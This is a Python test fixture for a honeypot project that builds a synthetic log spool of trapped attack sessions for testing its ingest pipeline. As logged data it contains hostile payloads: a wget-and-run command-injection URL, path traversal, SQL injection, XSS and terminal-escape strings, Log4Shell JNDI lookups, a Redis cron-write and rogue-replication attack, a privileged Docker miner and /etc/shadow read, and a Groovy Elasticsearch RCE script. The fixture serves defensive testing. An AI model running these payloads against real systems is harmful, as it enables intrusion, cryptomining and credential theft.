# SPDX-License-Identifier: MIT
"""A small, hand-countable spool of exploit-trap events (for test_views_traps.py; not collected).

Written by the sensor's own :class:`~honeyfarm.sensor.events.EventLog` and
:class:`~honeyfarm.sensor.events.SessionLog` into a real :class:`Spool` (so the
records have exactly the sensor's shape: ``ts``, ``eventid``, the connection's
columns, the fields given, the sensor's identity; caps applied), with the clock
pinned per event, then ingested by the real pipeline with GeoIP.

    conn  sensor   src_ip (country)    start (UTC)          events
    A     trap-eu  8.8.8.8     (US)    2026-11-20 10:00:00  http x2 + download (http)
    B     trap-eu  77.88.8.8   (RU)    2026-11-20 11:30:00  http x5 (https, hostile) + failed download (http)
    C     trap-us  1.1.1.1     (AU)    2026-11-21 09:00:00  redis cron write: 6 commands, file write, download
    C2    trap-us  5.255.255.5 (RU)    2026-11-21 09:30:00  redis INFO, SLAVEOF, replication payload
    D     trap-us  8.8.8.8     (US)    2026-11-21 12:00:00  docker: 3 requests, pull, create, exec, failed download
    E     trap-eu  1.1.1.1     (AU)    2026-11-21 13:00:00  elasticsearch: 2 requests, search query, download
    F     trap-eu  77.88.8.8   (RU)    2026-11-21 14:00:00  ssh shell download (no trap in extra)

Each event of a connection is one second after the previous one.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from honeyfarm.config import Config
from honeyfarm.pipeline import ingest
from honeyfarm.sensor import events as sensor_events
from honeyfarm.sensor.config import IdentityConfig, SpoolConfig
from honeyfarm.sensor.spool import Spool

COUNTRY = {"8.8.8.8": "US", "1.1.1.1": "AU", "77.88.8.8": "RU", "5.255.255.5": "RU"}
SHA_BINS = "a1" * 32
SHA_CRON = "b2" * 32
SHA_MODULE = "c3" * 32
BINS = "http://203.0.113.9/bins.sh"
CRON = "http://203.0.113.9/r.sh"
MINER = "http://203.0.113.9/m.sh"
ES_SH = "http://203.0.113.9/es.sh"
JNDI_SH = "http://198.51.100.7/x.sh"
SHELL_URL = "/shell?cd+/tmp;wget+http://203.0.113.9/bins.sh;sh+bins.sh"
# Hostile: HTML, terminal escapes (clear screen, OSC title), a bidi override, spreadsheet formulas.
HOSTILE_PATH = "/<img src=x onerror=window.__xss=1>\x1b[2J\u202egnp.exe"
HOSTILE_UA = "Mozilla/5.0 \x1b]0;pwned\x07\x1b[31m<script>window.__xss=1</script>"
FORMULA_UA = '=HYPERLINK("http://203.0.113.66/","click")'
JNDI_UA = "${jndi:ldap://198.51.100.7/ua}"
DOCKER_UA = "Docker-Client/20.10.24+dfsg1 (linux)"
ES_UA = "elasticsearch-py/8.19.0 (Python/3.11.2; elastic-transport/8.17.1)"
ES_SCRIPT = (
    '{"script_fields":{"x":{"script":"java.lang.Runtime.getRuntime().exec(\\"wget http://203.0.113.9/es.sh\\")"}}}'
)
ES_COMMAND = "wget http://203.0.113.9/es.sh"
CRON_SET = 'SET backup1 "\\n*/1 * * * * wget -q -O- http://203.0.113.9/r.sh | sh\\n"'
MINER_CMD = "sh -c wget http://203.0.113.9/m.sh -O- | sh"
SENSORS = {"trap-eu": ("eu-west-1", "ip"), "trap-us": ("us-east-1", "domain")}


@dataclass(frozen=True)
class Conn:
    name: str
    sensor: str
    session: str
    ip: str
    protocol: str
    port: int
    start: str


def _web(url: str, ua: str, method: str, status: int, attack: list[str], **more: Any) -> tuple[str, dict[str, Any]]:
    fields = {"url": url, "client_version": ua, "method": method, "path": url.split("?")[0], "status": status,
              "attack": attack, **more}  # fmt: skip
    return ("http.request.received", fields)


def _dl(url: str, sha: str | None, trap: str | None, how: str = "wget", reason: str | None = None) -> Any:
    origin = {"trap": trap, "request": "(payload)", "how": how} if trap else {}
    if sha is None:
        return ("cowrie.session.file_download.failed", {"url": url, "reason": reason, **origin})
    return ("cowrie.session.file_download", {"url": url, "sha256": sha, "size": 42, **origin})


def _redis(cmd: str) -> tuple[str, dict[str, Any]]:
    return ("redis.command.input", {"command": cmd})


def _es(url: str, method: str) -> tuple[str, dict[str, Any]]:
    return ("elasticsearch.request.received", {"url": url, "method": method, "client_version": ES_UA})


def _docker(url: str, method: str) -> tuple[str, dict[str, Any]]:
    return ("docker.request.received", {"url": url, "method": method, "client_version": DOCKER_UA})


A = Conn("A", "trap-eu", "aaaa00000001", "8.8.8.8", "http", 80, "2026-11-20T10:00:00")
B = Conn("B", "trap-eu", "bbbb00000002", "77.88.8.8", "https", 443, "2026-11-20T11:30:00")
C = Conn("C", "trap-us", "cccc00000003", "1.1.1.1", "redis", 6379, "2026-11-21T09:00:00")
C2 = Conn("C2", "trap-us", "cccc00000004", "5.255.255.5", "redis", 6379, "2026-11-21T09:30:00")
D = Conn("D", "trap-us", "dddd00000005", "8.8.8.8", "docker", 2375, "2026-11-21T12:00:00")
E = Conn("E", "trap-eu", "eeee00000006", "1.1.1.1", "elasticsearch", 9200, "2026-11-21T13:00:00")
F = Conn("F", "trap-eu", "ffff00000007", "77.88.8.8", "ssh", 22, "2026-11-21T14:00:00")

CONNS: list[tuple[Conn, list[tuple[str, dict[str, Any]]]]] = [
    (A, [
        _web("/", "Mozilla/5.0 zgrab/0.x", "GET", 200, ["scanner"]),
        _web(SHELL_URL, "Hello, World", "GET", 200, ["cmdi", "exploit"], cve=["CVE-2016-20016"], rule=["jaws-shell"]),
        _dl(BINS, SHA_BINS, "http"),
    ]),
    (B, [
        _web("/index.php?page=../../etc/passwd", HOSTILE_UA, "GET", 404, ["lfi"], ja3="e7d705a3286e19ea42f587b3"),
        _web("/index.php?id=1' OR '1'='1", HOSTILE_UA, "POST", 404, ["sqli", "sqli"]),
        _web(HOSTILE_PATH, FORMULA_UA, "GET", 404, ["xss"]),
        _web("/${jndi:ldap://198.51.100.7/a}", JNDI_UA, "GET", 404, ["log4shell"], cve=["CVE-2021-44228"]),
        _web("/cgi-bin/luci/;stok=/locale?form=country&country=$(id)", HOSTILE_UA, "GET", 404, ["cmdi"],
             cve=["CVE-2023-1389"]),
        _dl(JNDI_SH, None, "http", how="jndi", reason="refused: address"),
    ]),
    (C, [
        _redis("INFO"), _redis("FLUSHALL"), _redis(CRON_SET), _redis("CONFIG SET dir /var/spool/cron/"),
        _redis("CONFIG SET dbfilename root"), _redis("SAVE"),
        ("redis.file.write", {"path": "/var/spool/cron/root", "size": 64}),
        _dl(CRON, SHA_CRON, "redis"),
    ]),
    (C2, [
        _redis("INFO"), _redis("SLAVEOF 198.51.100.7 8886"),
        ("redis.replication.payload", {"sha256": SHA_MODULE, "size": 48000, "master": "198.51.100.7:8886"}),
    ]),
    (D, [
        _docker("/_ping", "HEAD"), _docker("/v1.41/images/create?fromImage=alpine&tag=latest", "POST"),
        ("docker.image.pull", {"image": "alpine:latest"}),
        _docker("/v1.41/containers/create", "POST"),
        ("docker.container.create", {"command": MINER_CMD, "image": "alpine:latest", "privileged": True,
                                     "binds": ["/:/host"]}),
        ("docker.exec.create", {"command": "cat /host/etc/shadow"}),
        _dl(MINER, None, "docker", reason="timeout"),
    ]),
    (E, [
        _es("/", "GET"), _es("/_search?pretty", "POST"),
        ("elasticsearch.search.query", {"url": "/_search?pretty", "method": "POST", "query": ES_SCRIPT,
                                        "command": ES_COMMAND, "attack": "script-rce", "cve": "CVE-2015-1427",
                                        "lang": "groovy", "client_version": ES_UA}),
        _dl(ES_SH, SHA_BINS, "elasticsearch"),
    ]),
    (F, [_dl(BINS, SHA_BINS, None)]),
]  # fmt: skip

Event = tuple[Conn, dt.datetime, str]
Pred = Callable[[Conn, dt.datetime, str], bool]


def all_events(conns: list[tuple[Any, list[tuple[str, dict[str, Any]]]]] | None = None) -> list[Event]:
    out = []
    for conn, steps in CONNS if conns is None else conns:
        t0 = dt.datetime.fromisoformat(conn.start)
        out += [(conn, t0 + dt.timedelta(seconds=i), eventid) for i, (eventid, _) in enumerate(steps)]
    return out


def write_spool(
    root: Path,
    pred: Pred | None = None,
    conns: list[tuple[Any, list[tuple[str, dict[str, Any]]]]] | None = None,
    sensors: dict[str, tuple[str, str]] | None = None,
) -> int:
    """Write the events ``pred`` keeps as the sensor does, one spool per sensor under ``root``; returns how many.

    ``conns``/``sensors`` default to this module's; tests/service_events.py passes its own.
    """
    n = 0
    with pytest.MonkeyPatch.context() as mp:
        for sensor, (region, exposure) in (SENSORS if sensors is None else sensors).items():
            spool = Spool(SpoolConfig(dir=root / sensor, fsync_interval=0), sensor)
            identity = IdentityConfig(name=sensor, region=region, provider="aws", hourly_cost=0.01,
                                      tags={"exposure": exposure})  # fmt: skip
            log = sensor_events.EventLog(spool, identity, 64 * 1024)
            for conn, steps in CONNS if conns is None else conns:
                if conn.sensor != sensor:
                    continue
                s = sensor_events.SessionLog(log, conn.protocol, (conn.ip, 40000 + n), ("10.9.0.1", conn.port))
                s.session = conn.session
                s.transport = getattr(conn, "transport", "tcp")
                t0 = dt.datetime.fromisoformat(conn.start)
                for i, (eventid, fields) in enumerate(steps):
                    ts = t0 + dt.timedelta(seconds=i)
                    if pred is not None and not pred(conn, ts, eventid):
                        continue
                    mp.setattr(sensor_events, "iso_now", lambda now=None, t=ts: t.strftime("%Y-%m-%dT%H:%M:%S.%fZ"))
                    s.emit(eventid, **fields)
                    n += 1
            spool.close()
    return n


def build_lake(
    root: Path,
    pred: Pred | None = None,
    conns: list[tuple[Any, list[tuple[str, dict[str, Any]]]]] | None = None,
    sensors: dict[str, tuple[str, str]] | None = None,
) -> Path:
    """The spool (or the part ``pred`` keeps) ingested with the honeyfarm format and GeoIP into ``root/lake``."""
    n = write_spool(root / "spool", pred, conns, sensors)
    lake = root / "lake"
    files = sorted((root / "spool").glob("*/events/*.jsonl"))
    if files:
        result = ingest([str(p) for p in files], Config(), lake, force_format="honeyfarm")
        assert result.errors == [] and result.dead_letter == 0, result
        assert result.ingested == n, result
    return lake
